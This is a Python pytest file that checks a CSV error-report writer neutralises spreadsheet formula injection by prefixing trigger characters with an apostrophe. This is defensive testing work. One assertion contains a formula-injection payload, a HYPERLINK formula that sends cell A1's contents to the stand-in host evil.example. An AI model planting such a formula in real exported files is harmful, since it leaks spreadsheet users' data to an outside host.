"""The error report: original columns + row + reason, and nothing a spreadsheet would execute."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from azorus_csv_import.error_report import ErrorReportWriter, neutralise, write_error_report
from azorus_csv_import.reading import CsvRow, RowProblem, open_csv
from hypothesis import given
from hypothesis import strategies as st

FIXTURES = Path(__file__).parents[1] / "fixtures" / "csv"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("+44 7700 900123", "'+44 7700 900123"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("  =1+1", "'  =1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("Ann", "Ann"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_neutralise(cell, safe):
    assert neutralise(cell) == safe


def test_report_of_the_formula_fixture_is_safe_to_open(tmp_path):
    source = open_csv(FIXTURES / "formulas.csv")
    out = tmp_path / "errors.csv"
    with source.rows() as rows:
        count = write_error_report(
            out, source.header, ((r.number, r.cells, "=evil reason") for r in rows if isinstance(r, CsvRow))
        )
    assert count == 2
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    table = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert table[0] == ["row", "MST", "Forename", "Surname", "Notes", "reason"]
    assert table[1][0] == "2"
    assert table[2][0] == "3"
    for line in table[1:]:
        for cell in line:
            assert not cell.lstrip(" ").startswith(TRIGGERS), cell
    assert table[1][2] == "'" + '=HYPERLINK("http://evil.example/?x="&A1;"click")'
    assert table[2][3] == "'-2+3"
    assert table[1][5] == "'=evil reason"


def test_ragged_rows_keep_every_value_and_stay_aligned(tmp_path):
    source = open_csv(FIXTURES / "ragged.csv")
    out = tmp_path / "errors.csv"
    with source.rows() as rows:
        problems = [(r.number, r.cells, r.reason) for r in rows if isinstance(r, RowProblem)]
    write_error_report(out, source.header, problems)
    with out.open(encoding="utf-8-sig", newline="") as fh:
        table = list(csv.reader(fh))
    assert table[1] == ["3", "0000100017", "Ned", "", "this row has 2 cells but the header has 3 columns"]
    assert table[2][:4] == ["4", "0000100018", "Ola", "Ong"]
    assert table[2][4].endswith("; extra cells: extra")
    assert {len(line) for line in table} == {5}


def test_our_columns_do_not_collide_with_the_files_own(tmp_path):
    buf = io.StringIO()
    with ErrorReportWriter(buf, ["Row", "reason", "x"]) as writer:
        writer.write(7, ["a", "b", "c"], "bad")
    lines = list(csv.reader(io.StringIO(buf.getvalue())))
    assert lines[0] == ["_row", "Row", "reason", "x", "_reason"]
    assert lines[1] == ["7", "a", "b", "c", "bad"]


def test_semicolon_report_for_a_semicolon_file():
    buf = io.StringIO()
    write_error_report(buf, ["a", "b"], [(2, ["1,5", "x"], "why")], delimiter=";")
    assert buf.getvalue() == "row;a;b;reason\r\n2;1,5;x;why\r\n"


@given(st.lists(st.text(max_size=10), min_size=2, max_size=2))
def test_any_cell_reads_back_as_itself_or_apostrophe_plus_itself(cells):
    buf = io.StringIO()
    write_error_report(buf, ["a", "b"], [(2, cells, "r")])
    back = list(csv.reader(io.StringIO(buf.getvalue(), newline="")))[1][1:3]
    for original, written in zip(cells, back, strict=True):
        assert written in (original, "'" + original)
        assert not written.lstrip(" ").startswith(TRIGGERS)
